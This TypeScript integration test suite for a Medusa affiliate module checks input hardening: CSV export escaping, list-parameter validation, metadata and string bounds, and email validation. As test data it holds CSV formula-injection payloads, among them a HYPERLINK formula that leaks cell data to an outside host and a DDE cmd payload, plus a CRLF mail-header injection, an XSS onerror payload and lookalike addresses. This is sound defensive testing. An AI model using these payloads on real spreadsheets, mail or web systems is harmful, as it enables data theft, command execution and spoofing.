import { ContainerRegistrationKeys, Modules } from "@medusajs/framework/utils"
import { httpSuite } from "../helpers/test-runner"
import { parse } from "csv-parse/sync"
import { AFFILIATE_MODULE } from "../../src/modules/affiliate"
import type AffiliateModuleService from "../../src/modules/affiliate/service"
import { createAdminHeaders, type AdminHeaders } from "../helpers/admin"
import { waitForSubscribers } from "../helpers/events"
import { expectHttpError } from "../helpers/http"
import { emailsSent } from "../helpers/notifications"

/** Every name, email, file and query parameter below comes from a stranger. */
export default httpSuite({
  testSuite: ({ api, getContainer }) => {
    let admin: AdminHeaders
    let service: AffiliateModuleService
    let publishableKey: string

    const storeHeaders = (token?: string) => ({
      headers: {
        "x-publishable-api-key": publishableKey,
        ...(token ? { authorization: `Bearer ${token}` } : {}),
      },
    })

    /** Public sign-up; returns the registration token, the affiliate and a token that carries it. */
    const signUp = async (email: string, body: Record<string, unknown>) => {
      const registered = (
        await api.post("/auth/affiliate/emailpass/register", { email, password: "s3cret-pass" })
      ).data.token as string
      const created = await api.post("/store/affiliates", body, storeHeaders(registered))
      const token = (await api.post("/auth/affiliate/emailpass", { email, password: "s3cret-pass" }))
        .data.token as string
      return { registered, token, affiliate: created.data.affiliate as { id: string } }
    }

    const createAffiliate = async (body: Record<string, unknown>) =>
      (await api.post("/admin/affiliates", { status: "approved", ...body }, admin)).data
        .affiliate as { id: string }

    const commission = (affiliateId: string, i: number, extra: Record<string, unknown> = {}) => ({
      affiliate_id: affiliateId,
      order_id: `order_sec_${i}`,
      currency_code: "eur",
      base_amount: 10,
      rate: 10,
      amount: 1,
      attribution: "link" as const,
      ...extra,
    })

    const exportRows = async (query = "") => {
      const { data } = await api.get(`/admin/affiliate-commissions/export${query}`, admin)
      return parse(data as string, { columns: true }) as Record<string, string>[]
    }

    // Seeded once: the runner snapshots the database after beforeAll and
    // restores it before every test.
    beforeAll(async () => {
      admin = await createAdminHeaders(api, getContainer())
      service = getContainer().resolve(AFFILIATE_MODULE)
      publishableKey = (
        await api.post("/admin/api-keys", { title: "Webshop", type: "publishable" }, admin)
      ).data.api_key.token
    })

    describe("CSV export (formula injection)", () => {
      it("escapes every text cell a spreadsheet would run, and keeps numbers numbers", async () => {
        const hostile = [
          `=HYPERLINK("http://x?"&A1,"Open")`,
          `+cmd|' /C calc'!A0`,
          "@SUM(1)",
          "-1+1",
        ]
        const affiliates = []
        for (const [i, name] of hostile.entries()) {
          affiliates.push((await signUp(`hostile${i}@partners.test`, { name })).affiliate)
        }
        // Leading tab and carriage return, as a row written by other code could hold them.
        const [tabbed] = await service.createAffiliates([
          { name: "\t=1+2", email: "tab@partners.test", code: "TABBED" },
        ])
        await service.createAffiliateCommissions([
          ...affiliates.map((affiliate, i) => commission(affiliate.id, i)),
          commission(tabbed.id, 10, { reason: "\r=cmd()", status: "rejected" }),
        ])
        const [negative] = await service.listAffiliateCommissions({ order_id: "order_sec_0" })
        await service.createAffiliateCommissionAdjustments([
          { commission_id: negative.id, amount: -0.5, reason: "refund" as const, reference: "=refund()" },
        ])

        const rows = await exportRows()
        expect(rows).toHaveLength(5)
        const names = rows.map((row) => row.affiliate_name).sort()
        expect(names).toEqual(
          [...hostile, "\t=1+2"].map((name) => `'${name}`).sort()
        )
        expect(rows.find((row) => row.affiliate_code === "TABBED")!.reason).toBe("'\r=cmd()")
        const first = rows.find((row) => row.order_id === "order_sec_0")!
        // Negative amounts stay numbers a spreadsheet can add up, at the currency's decimals.
        expect(first.adjustments).toBe("-0.50")
        expect(first.net_amount).toBe("0.50")
        for (const row of rows) {
          for (const cell of Object.values(row)) {
            expect(cell).not.toMatch(/^[=+@\t\r]/)
          }
        }
      })

      it("quotes cells holding ; or a tab, which some spreadsheet locales split on", async () => {
        const [semicolon] = await service.createAffiliates([
          { name: "Doe; Jane", email: "semi@partners.test", code: "SEMI" },
        ])
        await service.createAffiliateCommissions([
          commission(semicolon.id, 0, { reason: "late\tpayment; disputed", status: "rejected" }),
        ])

        const { data } = await api.get("/admin/affiliate-commissions/export", admin)
        const [, line] = (data as string).trim().split("\n")
        expect(line).toContain(`,"Doe; Jane",`)
        expect(line).toContain(`,"late\tpayment; disputed"`)
        const [row] = parse(data as string, { columns: true }) as Record<string, string>[]
        expect(row).toEqual(
          expect.objectContaining({ affiliate_name: "Doe; Jane", reason: "late\tpayment; disputed" })
        )
      })

      it("returns every row exactly once across pages, even while the ledger grows", async () => {
        const jane = await createAffiliate({ name: "Jane", email: "jane@aff.test", code: "JANE" })
        const total = 1201
        // Half the rows share one timestamp, so pages break ties by id.
        const at = new Date(Date.now() - 3600 * 1000)
        const created = await service.createAffiliateCommissions(
          Array.from({ length: total }, (_, i) =>
            commission(jane.id, i, i < 600 ? { created_at: at } : {})
          )
        )

        // A commission credited while the export runs (after its first page).
        const query = getContainer().resolve(ContainerRegistrationKeys.QUERY)
        const graph = query.graph.bind(query)
        let credited = false
        const spy = jest.spyOn(query, "graph").mockImplementation((async (
          ...args: Parameters<typeof query.graph>
        ) => {
          const result = await graph(...args)
          if (!credited && args[0].entity === "affiliate_commission") {
            credited = true
            await service.createAffiliateCommissions([commission(jane.id, 5000)])
          }
          return result
        }) as typeof query.graph)
        const rows = await exportRows(`?affiliate_id=${jane.id}`).finally(() => spy.mockRestore())

        const ids = rows.map((row) => row.id)
        expect(new Set(ids).size).toBe(ids.length)
        expect([...ids].sort()).toEqual(created.map(({ id }) => id).sort())
      })
    })

    describe("customers lists (bounded work per request)", () => {
      it("pages an affiliate's customers in the database, and caps limit", async () => {
        const sam = await signUp("sam@partners.test", { name: "Sam" })
        await api.post(`/admin/affiliates/${sam.affiliate.id}`, { status: "approved" }, admin)
        const customers = await getContainer()
          .resolve(Modules.CUSTOMER)
          .createCustomers(
            Array.from({ length: 28 }, (_, i) => ({
              email: `buyer${i}@shop.test`,
              first_name: `Buyer${i}`,
            }))
          )
        const start = Date.now() - 100_000
        // 25 connected (newest first: 24 … 0), 3 only referred by link.
        await service.createAffiliateConnections(
          customers.slice(0, 25).map((customer, i) => ({
            affiliate_id: sam.affiliate.id,
            customer_id: customer.id,
            source: "admin" as const,
            created_at: new Date(start + i * 1000),
          }))
        )
        await service.createAffiliateOrderAttributions(
          customers.slice(25).map((customer, i) => ({
            order_id: `order_ref_${i}`,
            affiliate_id: sam.affiliate.id,
            method: "link" as const,
            outcome: "credited" as const,
            customer_id: customer.id,
            created_at: new Date(start + i * 1000),
          }))
        )
        const expected = [...customers.slice(0, 25).reverse(), ...customers.slice(25).reverse()]

        // The affiliate sees no customer ids: their pages are told apart by first name.
        const pages = async (url: string, headers: object, key: "id" | "first_name") => {
          const keys: string[] = []
          for (const offset of [0, 10, 20]) {
            const { data } = await api.get(`${url}?limit=10&offset=${offset}`, headers)
            expect(data).toEqual(
              expect.objectContaining({ count: 28, offset, limit: 10 })
            )
            keys.push(...data.customers.map((customer: Record<typeof key, string>) => customer[key]))
          }
          return keys
        }
        expect(await pages("/store/affiliates/me/customers", storeHeaders(sam.token), "first_name")).toEqual(
          expected.map(({ first_name }) => first_name)
        )
        const adminIds = await pages(`/admin/affiliates/${sam.affiliate.id}/customers`, admin, "id")
        expect(adminIds).toEqual(expected.map(({ id }) => id))

        const page = (await api.get(`/admin/affiliates/${sam.affiliate.id}/customers?limit=3&offset=24`, admin))
          .data.customers
        expect(page.map((c: { connection: unknown }) => c.connection === null)).toEqual([false, true, true])

        await expectHttpError(
          api.get("/store/affiliates/me/customers?limit=101", storeHeaders(sam.token)),
          400,
          /limit/
        )
        await expectHttpError(
          api.get(`/admin/affiliates/${sam.affiliate.id}/customers?limit=100000`, admin),
          400,
          /limit/
        )
        const max = await api.get(`/admin/affiliates/${sam.affiliate.id}/customers?limit=100`, admin)
        expect(max.data.customers).toHaveLength(28)
      })
    })

    describe("metadata", () => {
      const deep = (levels: number) => {
        let value: Record<string, unknown> = { leaf: true }
        for (let i = 0; i < levels; i++) {
          value = { n: value }
        }
        return value
      }

      /** Sends the body already serialized: axios merges (recursively) what it is given. */
      const postJson = (url: string, body: Record<string, unknown>, config: { headers: object }) =>
        api.post(url, JSON.stringify(body), {
          headers: { ...config.headers, "content-type": "application/json" },
        })

      it.each([
        ["4,000 levels deep", deep(4000)],
        ["6 levels deep", deep(5)],
        ["over 8 kB", { blob: "x".repeat(9000) }],
        ["a key of 201 characters", { ["k".repeat(201)]: 1 }],
      ])("rejects metadata %s with a 400 everywhere, writing nothing", async (_, metadata) => {
        const registered = (
          await api.post("/auth/affiliate/emailpass/register", {
            email: "meta@partners.test",
            password: "s3cret-pass",
          })
        ).data.token as string
        await expectHttpError(
          postJson("/store/affiliates", { name: "Meta", metadata }, storeHeaders(registered)),
          400,
          /metadata/
        )
        await expectHttpError(
          postJson("/admin/affiliates", { name: "Meta", email: "meta@aff.test", metadata }, admin),
          400,
          /metadata/
        )
        expect(await service.listAffiliates({})).toHaveLength(0)

        const jane = await createAffiliate({ name: "Jane", email: "jane@aff.test", code: "JANE" })
        await expectHttpError(postJson(`/admin/affiliates/${jane.id}`, { metadata }, admin), 400, /metadata/)
        await expectHttpError(
          postJson(
            "/admin/affiliate-connections",
            { affiliate_id: jane.id, customer: { email: "meta@shop.test" }, metadata },
            admin
          ),
          400,
          /metadata/
        )
        expect((await service.retrieveAffiliate(jane.id)).metadata).toBeNull()
        expect(await service.listAffiliateConnections({})).toHaveLength(0)
      })

      it("accepts metadata within the limits", async () => {
        const { data } = await api.post(
          "/admin/affiliates",
          { name: "Meta", email: "meta@aff.test", metadata: { ...deep(4), note: "x".repeat(7000) } },
          admin
        )
        expect(data.affiliate.metadata.n.n.n.n).toEqual({ leaf: true })
      })
    })

    describe("list parameters", () => {
      const lists = [
        "/admin/affiliates",
        "/admin/affiliate-connections",
        "/admin/affiliate-commissions",
        "/admin/affiliates/:id/customers",
        "/admin/affiliate-sync-runs",
        "/store/affiliates/me/customers",
        "/store/affiliates/me/commissions",
      ]

      it.each([
        ["limit=-1", /limit/],
        ["limit=101", /limit/],
        ["limit=abc", /limit/],
        ["offset=-5", /offset/],
        ["order=password", /order/],
        ["order=-nope", /order/],
      ])("answers %s with a 400 naming the field on every list", async (params, message) => {
        const sam = await signUp("sam@partners.test", { name: "Sam" })
        for (const list of lists) {
          const url = `${list.replace(":id", sam.affiliate.id)}?${params}`
          const headers = list.startsWith("/store") ? storeHeaders(sam.token) : admin
          const { data } = await expectHttpError(api.get(url, headers), 400)
          expect([url, data.message]).toEqual([url, expect.stringMatching(message)])
        }
      })

      it.each([
        "created_at[$re]=.*",
        "created_at[$like]=2020%",
        "created_at[$gte]=not-a-date",
        "created_at[$gte]=1",
      ])("answers %s on the commissions list and export with a 400 naming created_at", async (params) => {
        for (const url of ["/admin/affiliate-commissions", "/admin/affiliate-commissions/export"]) {
          await expectHttpError(api.get(`${url}?${params}`, admin), 400, /created_at/)
        }
      })

      it("still takes the date filters and orders the lists document", async () => {
        const jane = await createAffiliate({ name: "Jane", email: "jane@aff.test", code: "JANE" })
        await service.createAffiliateCommissions([commission(jane.id, 1)])
        const since = new Date(Date.now() - 60_000).toISOString()
        const { data } = await api.get(
          `/admin/affiliate-commissions?created_at[$gte]=${since}&order=-amount&limit=100`,
          admin
        )
        expect(data.count).toBe(1)
        expect((await api.get("/admin/affiliates?order=-name", admin)).data.count).toBe(1)
        expect((await api.get("/admin/affiliate-connections?order=created_at", admin)).status).toBe(200)
      })

      it("answers fields that fan out or are not documented with a 400 naming them", async () => {
        const jane = await createAffiliate({ name: "Jane", email: "jane@aff.test", code: "JANE" })
        const [commissionRow] = await service.createAffiliateCommissions([commission(jane.id, 1)])
        const urls = [
          "/admin/affiliate-commissions",
          `/admin/affiliate-commissions/${commissionRow.id}`,
          "/admin/affiliates",
          `/admin/affiliates/${jane.id}`,
          "/admin/affiliate-connections",
        ]
        for (const url of urls) {
          for (const [fields, named] of [
            ["*affiliate.commissions.order.items", "*affiliate.commissions.order.items"],
            ["+affiliate.commissions.id", "affiliate.commissions.id"],
            ["*customer", "*customer"],
            // A list without modifiers replaces the defaults, and Medusa reads `-x` in it as `x`.
            ["id,-affiliate.commissions.order.items", "affiliate.commissions.order.items"],
          ]) {
            const { data } = await expectHttpError(api.get(`${url}?fields=${encodeURIComponent(fields)}`, admin), 400)
            expect([url, data.message]).toEqual([url, expect.stringContaining(`[${named}]`)])
          }
        }
        // Payout details are shown on one affiliate, never in the list.
        await expectHttpError(api.get("/admin/affiliates?fields=+payout_details", admin), 400, /payout_details/)
      })

      it("keeps answering the fields the admin pages and the README ask for", async () => {
        const jane = await createAffiliate({ name: "Jane", email: "jane@aff.test", code: "JANE" })
        const [commissionRow] = await service.createAffiliateCommissions([commission(jane.id, 1)])
        const adminListFields = "+program_id,+lines,+tier,+flag,+reassigned_to_id,+reassigned_from_id,+reassigned_by"
        const { data: list } = await api.get(`/admin/affiliate-commissions?fields=${adminListFields}`, admin)
        expect(list.affiliate_commissions[0]).toEqual(
          expect.objectContaining({ id: commissionRow.id, reassigned_to_id: null, affiliate: expect.objectContaining({ code: "JANE" }) })
        )
        const { data: narrow } = await api.get("/admin/affiliate-commissions?fields=id,amount,order.email,affiliate.metadata", admin)
        expect(narrow.affiliate_commissions[0]).toEqual(
          expect.objectContaining({ id: commissionRow.id, amount: 1 })
        )
        expect((await api.get(`/admin/affiliate-commissions/${commissionRow.id}`, admin)).status).toBe(200)
        expect((await api.get(`/admin/affiliates/${jane.id}?fields=+payout_details`, admin)).data.affiliate.id).toBe(jane.id)
        expect((await api.get("/admin/affiliates?fields=id,name", admin)).data.affiliates[0]).toEqual(
          expect.objectContaining({ id: jane.id, name: "Jane" })
        )
        expect((await api.get("/admin/affiliate-connections?fields=+affiliate.metadata", admin)).status).toBe(200)
      })
    })

    describe("search (q)", () => {
      it("matches % and _ literally in the affiliates, connections and commissions lists", async () => {
        const percent = await createAffiliate({ name: "100% Real", email: "real@aff.test", code: "REAL" })
        const snake = await createAffiliate({ name: "snake_case", email: "snake@aff.test", code: "SNAKE" })
        await createAffiliate({ name: "Plain", email: "plain@aff.test", code: "PLAIN" })
        const names = async (q: string) =>
          (await api.get(`/admin/affiliates?q=${encodeURIComponent(q)}`, admin)).data.affiliates
            .map((a: { id: string }) => a.id)
        expect(await names("%")).toEqual([percent.id])
        expect(await names("_")).toEqual([snake.id])
        expect(await names("\\")).toEqual([])

        const customers = await getContainer()
          .resolve(Modules.CUSTOMER)
          .createCustomers([
            { email: "pct@shop.test", first_name: "50%" },
            { email: "under@shop.test", last_name: "o_neil" },
            { email: "plain@shop.test", first_name: "Plain" },
          ])
        await service.createAffiliateConnections(
          customers.map((customer) => ({
            affiliate_id: percent.id,
            customer_id: customer.id,
            source: "admin" as const,
          }))
        )
        await service.createAffiliateCommissions(
          customers.map((customer, i) => commission(percent.id, i, { customer_id: customer.id }))
        )
        for (const [list, key] of [
          ["/admin/affiliate-connections", "affiliate_connections"],
          ["/admin/affiliate-commissions", "affiliate_commissions"],
        ]) {
          const found = async (q: string) =>
            (await api.get(`${list}?q=${encodeURIComponent(q)}`, admin)).data[key].map(
              (row: { customer_id: string }) => row.customer_id
            )
          expect(await found("%")).toEqual([customers[0].id])
          expect(await found("_")).toEqual([customers[1].id])
        }
      })
    })

    describe("string bounds", () => {
      const hugeEmail = `${"a".repeat(50_000)}@example.com`

      it("rejects a 50 kB email when creating an affiliate", async () => {
        await expectHttpError(
          api.post("/admin/affiliates", { name: "Huge", email: hugeEmail }, admin),
          400,
          /email/
        )
        expect(await service.listAffiliates({})).toHaveLength(0)
      })

      it("rejects a 50 kB email when connecting by email", async () => {
        const jane = await createAffiliate({ name: "Jane", email: "jane@aff.test", code: "JANE" })
        await expectHttpError(
          api.post(
            "/admin/affiliate-connections",
            { affiliate_id: jane.id, customer: { email: hugeEmail } },
            admin
          ),
          400,
          /email/
        )
        expect(await service.listAffiliateConnections({})).toHaveLength(0)
      })

      it("rejects an import file with a 50 kB email, naming the line and column", async () => {
        await createAffiliate({ name: "Jane", email: "jane@aff.test", code: "JANE" })
        const csv = ["customer_email,affiliate_code", "ok@shop.test,JANE", `${hugeEmail},JANE`].join("\n")
        for (const dry_run of [true, false]) {
          await expectHttpError(
            api.post("/admin/affiliate-connections/import", { csv, dry_run }, admin),
            400,
            /line 3.*customer_email/
          )
        }
        expect(await service.listAffiliateConnections({})).toHaveLength(0)
        const [customers] = await getContainer()
          .resolve(Modules.CUSTOMER)
          .listAndCountCustomers({})
        expect(customers).toHaveLength(0)
      })

      it("rejects over-long names, reasons, codes and searches", async () => {
        const jane = await createAffiliate({ name: "Jane", email: "jane@aff.test", code: "JANE" })
        const long = "x".repeat(5000)
        await expectHttpError(
          api.post("/admin/affiliates", { name: long, email: "n@aff.test" }, admin),
          400,
          /name/
        )
        await expectHttpError(
          api.post(
            "/admin/affiliate-connections",
            { affiliate_id: jane.id, customer: { email: "c@shop.test", first_name: long } },
            admin
          ),
          400,
          /first_name/
        )
        await expectHttpError(
          api.post(`/admin/affiliates/${jane.id}/promotions`, { codes: [long] }, admin),
          400,
          /codes/
        )
        await expectHttpError(api.get(`/admin/affiliates?q=${long}`, admin), 400, /q/)
        await expectHttpError(api.get(`/admin/affiliate-connections?q=${long}`, admin), 400, /q/)
        await expectHttpError(
          api.get(`/admin/affiliate-connections?affiliate_id=${long}`, admin),
          400,
          /affiliate_id/
        )
      })
    })

    describe("email addresses", () => {
      const PASSWORD = "s3cret-pass"
      // What the audit found among a store's affiliates: none is one address.
      const notAddresses = [
        "not-an-email",
        "a@x.com, b@y.test",
        "x@x.com\r\nbcc: v@y.test",
        '"<img src=x onerror=alert(1)>"@x.com',
      ]

      /** Registers a login (Medusa takes any text as its email) and signs up with it. */
      const signUpAs = async (email: string, actor = "affiliate") => {
        const registered = (
          await api.post(`/auth/${actor}/emailpass/register`, { email, password: PASSWORD })
        ).data.token as string
        return api.post("/store/affiliates", { name: "Someone" }, storeHeaders(registered))
      }

      it("refuses a sign-up whose login is not one plain address, writing nothing and notifying no one", async () => {
        for (const email of notAddresses) {
          await expectHttpError(signUpAs(email), 400, /^email: ".*" is not a valid email address: /)
        }
        expect(await service.listAffiliates({})).toEqual([])

        // A real sign-up after them, waited for: its notices are the only ones.
        await waitForSubscribers(getContainer(), "affiliate.signed_up", () =>
          signUpAs("real@partners.test")
        )
        const sent = await emailsSent(getContainer())
        expect(sent.length).toBeGreaterThan(0)
        expect(JSON.stringify(sent)).not.toMatch(/@x\.com|@y\.test|not-an-email|onerror/)
        expect((await service.listAffiliates({})).map((a) => a.email)).toEqual(["real@partners.test"])
      })

      it("refuses look-alikes of an address in use, and stores fullwidth letters as ASCII", async () => {
        await signUpAs("jane@partners.test")
        await signUpAs("iris@partners.test")
        // Cyrillic а; Latin İ, which PostgreSQL's lower() would make an i and JavaScript an i + dot.
        for (const lookAlike of ["j\u0430ne@partners.test", "\u0130RIS@partners.test"]) {
          await expectHttpError(signUpAs(lookAlike), 400, /^email: .* outside ASCII/)
        }
        // Fullwidth letters are the same address: another login already has it.
        await expectHttpError(signUpAs("ｊａｎｅ@partners.test"), 422, /already uses jane@partners\.test/)
        // …and the other way round: a shopper's login in fullwidth letters keeps her address.
        await api.post("/auth/customer/emailpass/register", { email: "ｍａｘ@shop.test", password: PASSWORD })
        await expectHttpError(signUpAs("max@shop.test"), 422, /already uses max@shop\.test/)

        await signUpAs("ｊｏｅ@partners.test")
        const created = await createAffiliate({ name: "Kim", email: "ＫＩＭ@Partners.test", code: "KIM" })
        const emails = (await service.listAffiliates({}, { order: { email: "ASC" } })).map((a) => a.email)
        expect(emails).toEqual([
          "iris@partners.test",
          "jane@partners.test",
          "joe@partners.test",
          "kim@partners.test",
        ])
        expect((await api.get(`/admin/affiliates/${created.id}`, admin)).data.affiliate.email).toBe(
          "kim@partners.test"
        )
      })

      it("refuses such addresses from the admin, on create and update", async () => {
        const kim = await createAffiliate({ name: "Kim", email: "kim@partners.test", code: "KIM" })
        for (const email of [...notAddresses, "j\u0430ne@partners.test"]) {
          await expectHttpError(
            api.post("/admin/affiliates", { name: "Bad", email }, admin),
            400,
            /^Invalid request: email: ".*" is not a valid email address: /
          )
          await expectHttpError(
            api.post(`/admin/affiliates/${kim.id}`, { email }, admin),
            400,
            /^Invalid request: email: /
          )
        }
        expect((await service.listAffiliates({})).map((a) => a.email)).toEqual(["kim@partners.test"])
      })

      it("connects by an address in its normalized form, and creates no customer for a bad one", async () => {
        const jane = await createAffiliate({ name: "Jane", email: "jane@aff.test", code: "JANE" })
        const customers = getContainer().resolve(Modules.CUSTOMER)
        const connect = (email: string) =>
          api.post("/admin/affiliate-connections", { affiliate_id: jane.id, customer: { email } }, admin)

        for (const email of notAddresses) {
          await expectHttpError(connect(email), 400, /^Invalid request: customer\.email: /)
        }
        expect(await customers.listCustomers({})).toEqual([])

        // A customer kept in fullwidth letters (Medusa's module takes any text) is found, not duplicated.
        const [dan] = await customers.createCustomers([{ email: "ｄａｎ@shop.test" }])
        const toDan = (await connect("DAN@shop.test")).data.affiliate_connection
        expect(toDan.customer_id).toBe(dan.id)
        // A new one is created with the ASCII address.
        const toCora = (await connect("ｃｏｒａ@Shop.test")).data.affiliate_connection
        const [cora] = await customers.listCustomers({ id: toCora.customer_id })
        expect(cora.email).toBe("cora@shop.test")
        expect(await customers.listCustomers({})).toHaveLength(2)
      })

      it("reports an import row with a bad customer or affiliate email as that row's error", async () => {
        await createAffiliate({ name: "Jane", email: "jane@aff.test", code: "JANE" })
        const csv = [
          "customer_email,affiliate_code,affiliate_email",
          "ｃｏｒａ@shop.test,,jane@aff.test",
          '"x@x.com\r\nbcc: v@y.test",JANE,',
          'nora@shop.test,,"jane@aff.test, x@y.test"',
          "mia@shop.test,,j\u0430ne@aff.test",
        ].join("\n")
        const { data } = await api.post("/admin/affiliate-connections/import", { csv }, admin)
        expect(data.rows).toEqual([
          expect.objectContaining({ line: 2, result: "create", customer: "new" }),
          expect.objectContaining({
            line: 3,
            result: "invalid_email",
            message: expect.stringMatching(/^customer_email: ".*" is not a valid email address: .*line break/),
          }),
          expect.objectContaining({
            line: 4,
            result: "invalid_email",
            message: expect.stringMatching(/^affiliate_email: ".*" is not a valid email address/),
          }),
          expect.objectContaining({
            line: 5,
            result: "invalid_email",
            message: expect.stringMatching(/^affiliate_email: .* outside ASCII/),
          }),
        ])
        const customers = await getContainer().resolve(Modules.CUSTOMER).listCustomers({})
        expect(customers.map((c) => c.email)).toEqual(["cora@shop.test"])
        expect(await service.listAffiliateConnections({})).toHaveLength(1)
      })
    })
  },
})
